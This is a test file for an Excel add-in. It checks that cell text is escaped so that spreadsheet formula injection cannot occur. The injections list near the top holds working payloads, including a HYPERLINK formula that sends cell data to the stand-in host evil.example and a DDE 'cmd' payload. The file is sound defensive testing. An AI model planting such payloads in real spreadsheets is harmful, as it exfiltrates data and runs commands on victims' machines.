/** toExcelGrid / excelText: what is sent to Excel (formula injection impossible by construction). */
import { describe, expect, it } from 'vitest';
import { excelText, toExcelGrid } from '../../../addin/board/sheet/excel-grid';
import { numberFormats } from '../../../addin/board/sheet/number-formats';
import { excelStore } from '../../../addin/preview/excel-store';

const injections = ['=HYPERLINK("https://evil.example/?d="&A1,"詳細")', '+cmd|\' /C calc\'!A0', '-1+1', '@SUM(A1:A3)', '=1+1'];

describe('excelText', () => {
  it.each(injections)('quotes %s so that Excel stores it as literal text', (text) => {
    expect(excelText(text)).toBe(`'${text}`);
    expect(excelStore(excelText(text), 'General')).toEqual({ value: text });
  });

  it('also quotes a leading apostrophe, which Excel would otherwise swallow', () => {
    expect(excelStore(excelText("'引用"), '@')).toEqual({ value: "'引用" });
  });

  it('leaves ordinary Japanese text alone', () => {
    expect(excelText('医師の働き方改革に関する質問主意書')).toBe('医師の働き方改革に関する質問主意書');
    expect(excelText('−1 (全角の負号)')).toBe('−1 (全角の負号)');
  });
});

describe('toExcelGrid', () => {
  const write = {
    table: 'T', headers: ['件名', '回次', '提出日', '締切日時', '自分用メモ'],
    kinds: ['text', 'number', 'date', 'datetime', undefined] as const,
    rows: [
      ['=HYPERLINK("x")', 221, 46083, 46083.75, null],
      ['', '', '', '', 'メモ'],
      ['-1+1', 1, '', '', 3],
    ],
  };
  const grid = toExcelGrid({ ...write, kinds: [...write.kinds] });

  it('formats strings as text and numbers by their column (dates in 和暦)', () => {
    expect(grid.formats[0]).toEqual(['@', numberFormats.number, numberFormats.date, numberFormats.datetime, null]);
    expect(grid.values[0]).toEqual(["'=HYPERLINK(\"x\")", 221, 46083, 46083.75, null]);
  });

  it('gives blank cells their column format, so a date typed later is a date', () => {
    expect(grid.formats[1]).toEqual(['@', numberFormats.number, numberFormats.date, numberFormats.datetime, '@']);
  });

  it('leaves the formats of a column the user added alone, except for text it holds', () => {
    expect(grid.formats[2]![4]).toBeNull();
    expect(grid.values[2]).toEqual(["'-1+1", 1, '', '', 3]);
  });

  it('a formula-like string written without the quote into a General cell would become a formula (the model we test against)', () => {
    expect(excelStore('=1+1', 'General').formula).toBe('=1+1');
    expect(excelStore('+cmd', 'General').formula).toBe('=+cmd');
  });
});
